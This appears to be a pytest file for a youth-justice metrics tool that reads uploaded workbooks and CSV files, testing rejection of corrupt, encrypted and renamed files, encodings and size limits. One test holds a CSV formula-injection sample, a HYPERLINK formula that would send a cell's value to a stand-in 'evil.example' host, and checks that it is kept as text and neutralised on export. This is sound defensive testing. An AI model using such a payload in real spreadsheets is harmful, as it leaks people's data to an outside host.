"""Reading workbook bytes: real files of every kind we must reject, .xlsm, row numbers, dates."""
from __future__ import annotations

import csv
import datetime as dt
import io
import random
import shutil
import subprocess
import zipfile

import openpyxl
import pandas as pd
import pytest

from tests.broken_workbooks import to_xlsx, valid_workbook_rows, valid_xlsx
from yj_metrics.dataset import FRAME_OF_SHEET
from yj_metrics.reading import (MAX_FILES, RawWorkbook, WorkbookReadError, bundle_bytes, read_files,
                                read_workbook, sheet_name_of)
from yj_metrics.settings import ReadLimits
from yj_metrics.validation import validate_bytes


def _read_error(data: bytes, name: str) -> str:
    with pytest.raises(WorkbookReadError) as info:
        read_workbook(data, name)
    return info.value.message


def _soffice_convert(tmp_path, src_name: str, data: bytes, target: str) -> bytes:
    """Convert real bytes with LibreOffice (a private profile) and return the new file."""
    soffice = shutil.which("soffice")
    assert soffice, "LibreOffice (soffice) is needed: the test command installs it"
    src = tmp_path / src_name
    src.write_bytes(data)
    out = tmp_path / "out"
    out.mkdir(exist_ok=True)
    subprocess.run([soffice, f"-env:UserInstallation=file://{tmp_path}/lo-profile", "--headless",
                    "--convert-to", target, "--outdir", str(out), str(src)],
                   check=True, capture_output=True, timeout=180)
    produced = list(out.iterdir())
    assert len(produced) == 1, produced
    return produced[0].read_bytes()


# ------------------------------------------------------------------ what is read

def test_sheets_keyed_by_name_as_in_file_with_header_and_rows():
    raw = read_workbook(valid_xlsx(), "valid.xlsx")
    rows = valid_workbook_rows()
    assert isinstance(raw, RawWorkbook)
    assert list(raw.sheets) == list(rows)
    children = raw.sheets["Children"]
    assert children.header == tuple(rows["Children"][0])
    assert children.row_numbers == (2, 3, 4, 5, 6)
    assert children.rows[0][:5] == ("C001", dt.date(2008, 5, 14), "Male", "White - British",
                                    "North")
    # An empty cell is None (C005 has no ethnicity), not "".
    assert children.rows[4][3] is None


def test_blank_rows_are_skipped_but_row_numbers_stay_right():
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Children"
    ws.append(["child_id", "locality"])          # row 1
    ws.append(["C1", "North"])                   # row 2
    ws.append([])                                # row 3 blank
    ws.append([None, "   "])                     # row 4 only whitespace: blank
    ws.append(["C2", "West"])                    # row 5
    ws["A9"] = "C3"                              # row 9 after more blank rows
    buf = io.BytesIO()
    wb.save(buf)
    sheet = read_workbook(buf.getvalue(), "gaps.xlsx").sheets["Children"]
    assert sheet.row_numbers == (2, 5, 9)
    assert [r[0] for r in sheet.rows] == ["C1", "C2", "C3"]
    assert sheet.rows[2] == ("C3", None)


def test_date_cells_datetime_cells_and_date_formatted_numbers_come_back_as_dates():
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(["a_date", "a_datetime", "number_shown_as_date", "plain_number", "text"])
    ws.append([dt.date(2023, 4, 3), dt.datetime(2023, 4, 3, 13, 30), 45019, 45019, "03/04/2023"])
    ws["C2"].number_format = "dd/mm/yyyy"
    buf = io.BytesIO()
    wb.save(buf)
    row = read_workbook(buf.getvalue(), "dates.xlsx").sheets["Sheet"].rows[0]
    # 45019 days after 30 Dec 1899 is 3 April 2023 (Excel's 1900 date system).
    assert row == (dt.date(2023, 4, 3), dt.datetime(2023, 4, 3, 13, 30), dt.date(2023, 4, 3),
                   45019.0, "03/04/2023")
    assert type(row[0]) is dt.date and type(row[2]) is dt.date


def test_xlsm_is_read_for_values_only(tmp_path):
    """An .xlsm (macro-enabled package with a VBA project part) reads like an .xlsx."""
    src = zipfile.ZipFile(io.BytesIO(valid_xlsx()))
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as out:
        for item in src.infolist():
            data = src.read(item.filename)
            if item.filename == "[Content_Types].xml":
                data = data.replace(
                    b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
                    b"application/vnd.ms-excel.sheet.macroEnabled.main+xml")
                data = data.replace(b"</Types>", b'<Default Extension="bin" ContentType='
                                    b'"application/vnd.ms-office.vbaProject"/></Types>')
            if item.filename == "xl/_rels/workbook.xml.rels":
                data = data.replace(b"</Relationships>", (
                    b'<Relationship Id="rIdVBA" Type="http://schemas.microsoft.com/office/2006/'
                    b'relationships/vbaProject" Target="vbaProject.bin"/></Relationships>'))
            out.writestr(item, data)
        out.writestr("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504)
    xlsm = buf.getvalue()
    assert b"macroEnabled" in zipfile.ZipFile(io.BytesIO(xlsm)).read("[Content_Types].xml")
    raw = read_workbook(xlsm, "monthly.xlsm")
    assert raw.sheets["Children"].rows == read_workbook(valid_xlsx(), "x.xlsx").sheets[
        "Children"].rows
    report = validate_bytes(xlsm, "monthly.xlsm")
    assert report.ok and report.dataset is not None
    assert len(report.dataset.children) == 5


def test_libreoffice_xlsm_is_read(tmp_path):
    xlsm = _soffice_convert(tmp_path, "valid.xlsx", valid_xlsx(),
                            "xlsm:Calc MS Excel 2007 VBA XML")
    raw = read_workbook(xlsm, "valid.xlsm")
    assert raw.sheets["Outcomes"].row_numbers == (2, 3, 4, 5, 6, 7)
    assert validate_bytes(xlsm, "valid.xlsm").ok


# ------------------------------------------------------------------ what is rejected

def test_empty_file():
    assert "empty" in _read_error(b"", "monthly.xlsx")


def test_old_xls_file_is_read_like_the_xlsx_it_was_saved_from(tmp_path):
    """A real BIFF8 .xls (LibreOffice's 'MS Excel 97' filter) gives the same data as the .xlsx it came from,
    whatever its name says."""
    xls = _soffice_convert(tmp_path, "valid.xlsx", valid_xlsx(), "xls")
    assert xls.startswith(b"\xd0\xcf\x11\xe0")
    expected = validate_bytes(valid_xlsx(), "valid.xlsx").dataset
    for name in ("monthly.xls", "monthly.xlsx"):  # decided by content, not the name
        report = validate_bytes(xls, name)
        assert report.ok, report.errors
        for frame in FRAME_OF_SHEET.values():
            pd.testing.assert_frame_equal(getattr(report.dataset, frame), getattr(expected, frame), obj=frame)


def test_password_protected_workbook_says_remove_password():
    import msoffcrypto  # test dependency: real OOXML encryption (msoffcrypto-tool)
    from msoffcrypto.format.ooxml import OOXMLFile

    out = io.BytesIO()
    OOXMLFile(io.BytesIO(valid_xlsx())).encrypt("s3cret", out)
    encrypted = out.getvalue()
    assert encrypted.startswith(b"\xd0\xcf\x11\xe0")  # an OLE2 wrapper, not a zip
    msg = _read_error(encrypted, "monthly.xlsx")
    assert "password" in msg and "File > Info > Protect Workbook" in msg
    report = validate_bytes(encrypted, "monthly.xlsx")
    assert report.unreadable == msg and report.dataset is None and not report.ok


def test_truncated_xlsx_is_corrupt():
    data = valid_xlsx()
    msg = _read_error(data[: len(data) // 2], "monthly.xlsx")
    assert "damaged" in msg


def test_zip_with_broken_workbook_xml_is_corrupt():
    src = zipfile.ZipFile(io.BytesIO(valid_xlsx()))
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as out:
        for item in src.infolist():
            data = src.read(item.filename)
            if item.filename == "xl/workbook.xml":
                data = data[: len(data) // 3]
            out.writestr(item, data)
    assert "damaged" in _read_error(buf.getvalue(), "monthly.xlsx")


@pytest.mark.parametrize("data, kind", [
    (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n", "PDF"),
    (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)), "PNG image"),
    (b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + bytes(range(256)), "JPEG image"),
])
def test_renamed_non_workbook_files(data, kind):
    msg = _read_error(data, "monthly.xlsx")
    assert "not an Excel workbook" in msg and kind in msg


def test_word_document_renamed_is_not_a_workbook():
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("word/document.xml", "<w:document/>")
    msg = _read_error(buf.getvalue(), "monthly.xlsx")
    assert "Word document" in msg


def test_ods_says_save_as_xlsx(tmp_path):
    ods = _soffice_convert(tmp_path, "valid.xlsx", valid_xlsx(), "ods")
    msg = _read_error(ods, "monthly.ods")
    assert "OpenDocument" in msg and ".xlsx" in msg


def test_random_and_truncated_bytes_never_raise_anything_else():
    rng = random.Random(20240401)
    good = valid_xlsx()
    samples = [bytes(rng.randrange(256) for _ in range(n)) for n in (1, 7, 100, 5000)]
    samples += [good[:n] for n in (4, 30, 500, 2000, len(good) - 1)]
    samples += [b"PK\x03\x04" + bytes(rng.randrange(256) for _ in range(3000))]
    flipped = bytearray(good)
    for i in rng.sample(range(len(flipped)), 40):
        flipped[i] ^= 0xFF
    samples.append(bytes(flipped))
    for data in samples:
        try:
            read_workbook(data, "x.xlsx")
        except WorkbookReadError as exc:
            assert exc.message and "Traceback" not in exc.message
        report = validate_bytes(data, "x.xlsx")  # never raises
        assert report.ok == (report.unreadable is None and not report.errors)


def test_workbook_written_with_no_rows_reads_as_empty_sheets():
    raw = read_workbook(to_xlsx({"Children": [], "Outcomes": [["outcome_id"]]}), "e.xlsx")
    assert raw.sheets["Children"].header == () and raw.sheets["Children"].rows == ()
    assert raw.sheets["Outcomes"].header == ("outcome_id",)


# ------------------------------------------------------------------ CSV files

def _csv_text(rows: list[list], delimiter: str = ",") -> str:
    """Rows as CSV text the way a case system writes it: dates day first, booleans Y/N, blanks empty."""
    def cell(v):
        if v is None:
            return ""
        if isinstance(v, bool):
            return "Y" if v else "N"
        if isinstance(v, dt.date):
            return v.strftime("%d/%m/%Y")
        return str(v)
    out = io.StringIO()
    csv.writer(out, delimiter=delimiter, lineterminator="\r\n").writerows([[cell(v) for v in r] for r in rows])
    return out.getvalue()


def _template_csv_files(tmp_path, encoding="utf-8", delimiter=",", name="{sheet}.csv") -> list[tuple[str, bytes]]:
    """The valid workbook as one real CSV file per sheet, written to disk and read back."""
    files = []
    for sheet, rows in valid_workbook_rows().items():
        path = tmp_path / name.format(sheet=sheet)
        path.write_bytes(_csv_text(rows, delimiter).encode(encoding))
        files.append((path.name, path.read_bytes()))
    return files


def _same_data(report, expected) -> None:
    assert report.ok, report.errors
    for frame in FRAME_OF_SHEET.values():
        pd.testing.assert_frame_equal(getattr(report.dataset, frame), getattr(expected, frame), obj=frame)


@pytest.mark.parametrize("encoding, delimiter, name", [
    ("utf-8", ",", "{sheet}.csv"),
    ("utf-8-sig", ";", "{sheet}.csv"),             # Excel's "CSV UTF-8", European list separator
    ("cp1252", "\t", "{sheet}.txt"),               # Windows-1252 tab-separated, as many council systems write
    ("utf-16", "\t", "{sheet}.txt"),               # Excel's "Unicode text"
    ("utf-8", "|", "YJ workbook - {sheet}.csv"),   # Google Sheets names each sheet's CSV like this
])
def test_csv_files_in_the_template_layout_load_as_the_workbook_does(tmp_path, encoding, delimiter, name):
    from yj_metrics.validation import validate

    files = _template_csv_files(tmp_path, encoding, delimiter, name)
    raw = read_files(files)
    assert sorted(raw.sheets) == sorted(valid_workbook_rows())
    assert raw.sources["Children"] == name.format(sheet="Children")
    assert raw.sheets["Children"].header[0] == "child_id"  # the byte-order mark is not part of the heading
    _same_data(validate(raw), validate_bytes(valid_xlsx(), "valid.xlsx").dataset)


def test_csv_cells_are_text_as_written_with_record_numbers_as_rows(tmp_path):
    text = ('child_id,note,score\r\n00123,"two\r\nlines",7\r\n\r\n'
            '"C2","says ""hi""",\r\n')
    raw = read_workbook(text.encode(), "Children.csv")
    sheet = raw.sheets["Children"]
    assert sheet.header == ("child_id", "note", "score")
    assert sheet.rows == (("00123", "two\r\nlines", "7"), ("C2", 'says "hi"', None))
    assert sheet.row_numbers == (2, 4)  # the blank record 3 is skipped; the quoted line break is one record


def test_windows_1252_letters_are_read_right():
    data = "child_id,team\r\nC1,Children’s Home – Zoë\r\n".encode("cp1252")
    assert read_workbook(data, "a.csv").sheets["a"].rows == (("C1", "Children’s Home – Zoë"),)


def test_excel_sep_line_sets_the_delimiter_and_is_not_a_row():
    raw = read_workbook(b"sep=;\r\nchild_id;gender\r\nC1;Male\r\n", "Children.csv")
    assert raw.sheets["Children"].header == ("child_id", "gender")
    assert raw.sheets["Children"].rows == (("C1", "Male"),)


def test_a_title_block_above_the_headings_does_not_decide_the_delimiter():
    data = ("YJS Caseload Extract\r\nRun 05/12/2026; all teams\r\n\r\nClient No;DOB;Sex\r\n"
            "C1;14/05/2008;M\r\nC2;02/11/2007;F\r\n").encode("cp1252")
    sheet = read_workbook(data, "extract.csv").sheets["extract"]
    assert sheet.header == ("YJS Caseload Extract",)
    assert sheet.rows[1:] == (("Client No", "DOB", "Sex"), ("C1", "14/05/2008", "M"), ("C2", "02/11/2007", "F"))
    assert sheet.row_numbers == (2, 4, 5, 6)


def test_formula_text_in_a_csv_is_read_as_text_and_written_back_neutralised():
    from yj_metrics.safe_export import csv_bytes

    evil = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    data = _csv_text([["child_id", "date_of_birth", "gender"], ["C1", evil, "+1+1"]]).encode()
    raw = read_workbook(data, "Children.csv")
    assert raw.sheets["Children"].rows == (("C1", evil, "+1+1"),)  # kept literally, never run
    report = validate_bytes(data, "Children.csv")
    assert any(p.value == evil for p in report.errors)
    written = csv_bytes(report.to_frame()).decode()
    assert "'" + evil.replace('"', '""') in written and "\n=" not in written and ",=" not in written


def test_several_files_mix_csv_and_workbooks_and_name_their_sources(tmp_path):
    rows = valid_workbook_rows()
    book = to_xlsx({k: v for k, v in rows.items() if k != "Population"})
    raw = read_files([("monthly.xlsx", book), ("Population.csv", _csv_text(rows["Population"]).encode())])
    assert raw.sources["Population"] == "Population.csv" and raw.sources["Children"] == "monthly.xlsx"
    assert raw.file_name == "monthly.xlsx, Population.csv"


def test_two_files_giving_the_same_sheet_are_refused_naming_both():
    rows = valid_workbook_rows()
    with pytest.raises(WorkbookReadError) as err:
        read_files([("monthly.xlsx", valid_xlsx()), ("children.csv", _csv_text(rows["Children"]).encode())])
    assert "monthly.xlsx and children.csv both give a sheet called 'children'" in err.value.message
    with pytest.raises(WorkbookReadError) as err:
        read_files([("a.csv", b"x\r\n1\r\n")] * 2)
    assert "chosen twice" in err.value.message
    with pytest.raises(WorkbookReadError) as err:
        read_files([(f"s{i}.csv", b"x\r\n1\r\n") for i in range(MAX_FILES + 1)])
    assert f"at most {MAX_FILES}" in err.value.message


def test_the_same_files_in_another_order_are_the_same_upload():
    a, b = ("a.csv", b"x\r\n1\r\n"), ("b.csv", b"y\r\n2\r\n")
    assert bundle_bytes([a, b]) == bundle_bytes([b, a]) != bundle_bytes([a, ("b.csv", b"y\r\n3\r\n")])
    assert bundle_bytes([("monthly.xlsx", b"PK")]) == b"PK"  # one file keeps its own fingerprint


@pytest.mark.parametrize("name, sheet", [
    ("Children.csv", "Children"), ("Children (1).csv", "Children"), ("YJS extract - Outcomes.csv", "Outcomes"),
    ("Event list - April.csv", "Event list - April"), ("events.txt", "events"), ("/tmp/x/Remands.TSV", "Remands"),
])
def test_a_csv_file_becomes_the_sheet_named_after_it(name, sheet):
    assert sheet_name_of(name) == sheet


# ------------------------------------------------------------------ hostile or broken CSV

def test_binary_junk_renamed_csv_is_refused_as_not_text():
    rng = random.Random(3)
    junk = bytes(rng.randrange(256) for _ in range(5000))
    msg = _read_error(junk, "Children.csv")
    assert "is named 'Children.csv' but it is not text" in msg
    msg = _read_error(b"\x89PNG\r\n\x1a\n" + junk, "Children.csv")
    assert "not text" in msg and "PNG image" in msg


def test_binary_data_after_a_text_start_is_refused_naming_the_line():
    data = b"child_id,gender\r\n" + b"C1,Male\r\n" * 2000 + b"C2,\x00\x01\x02\x03\r\n"
    msg = _read_error(data, "Children.csv")
    assert "binary data on line 2,002" in msg


def test_a_file_mixing_utf8_and_windows_1252_is_refused_naming_the_first_bad_line():
    data = "child_id,team\r\nC1,Zoë\r\n".encode("utf-8") + "C2,Zoë\r\n".encode("cp1252")
    msg = _read_error(data, "Children.csv")
    assert "mixes UTF-8 with another text encoding (line 3 is the first" in msg and "CSV UTF-8" in msg


def test_too_many_columns_rows_or_a_giant_cell_are_refused_naming_the_row():
    limits = ReadLimits(max_rows=5, max_columns=4)
    ok = b"a,b,c,d\r\n" + b"1,2,3,4\r\n" * 4
    assert len(read_workbook(ok, "x.csv", limits=limits).sheets["x"].rows) == 4  # exactly at the limits
    with pytest.raises(WorkbookReadError) as err:
        read_workbook(ok + b"1,2,3,4\r\n", "x.csv", limits=limits)
    assert "more than 5 rows" in err.value.message
    with pytest.raises(WorkbookReadError) as err:
        read_workbook(b"a;b;c;d\r\n1;2;3;4;5\r\n", "x.csv", limits=limits)
    assert "row 2 has 5 cells (separated by semicolons)" in err.value.message
    giant = b"a,b\r\n1,2\r\n3," + b"x" * 200_000 + b"\r\n"
    assert "row 3 has a cell longer than 131,072 characters" in _read_error(giant, "x.csv")
    unclosed = b"a,b\r\n1,\"open\r\n" + b"2,3\r\n" * 30_000
    assert "row 2 has a cell longer" in _read_error(unclosed, "x.csv")


def test_isolated_and_in_process_reading_give_the_same_csv_and_xls_cells(tmp_path):
    data = _csv_text(valid_workbook_rows()["Interventions"]).encode("cp1252")
    assert read_workbook(data, "i.csv") == read_workbook(data, "i.csv", isolated=False)
    xls = _soffice_convert(tmp_path, "valid.xlsx", valid_xlsx(), "xls")
    assert read_workbook(xls, "v.xls") == read_workbook(xls, "v.xls", isolated=False)


def test_html_saved_as_xls_is_still_refused():
    msg = _read_error(b"<html><body><table><tr><td>child_id</td></tr></table></body></html>", "export.xls")
    assert "web page" in msg


def test_csv_files_read_together_name_the_file_a_problem_is_in(tmp_path):
    files = _template_csv_files(tmp_path)
    assert read_files(files) == read_files(files, isolated=False)
    bad = [(n, d + b"C9,\x00\x01\r\n" if n == "Outcomes.csv" else d) for n, d in files]
    msg = _read_error_files(bad)
    assert "named 'Outcomes.csv' but it is not text" in msg  # a short file: its first bytes already say so
    wide = [(n, d + b"1,2,3,4,5,6,7,8,9,10,11,12,13,14,15\r\n" if n == "Children.csv" else d) for n, d in files]
    with pytest.raises(WorkbookReadError) as err:
        read_files(wide, limits=ReadLimits(max_columns=14))
    assert "'Children.csv' row 7 has 15 cells" in err.value.message


def _read_error_files(files) -> str:
    with pytest.raises(WorkbookReadError) as info:
        read_files(files)
    return info.value.message
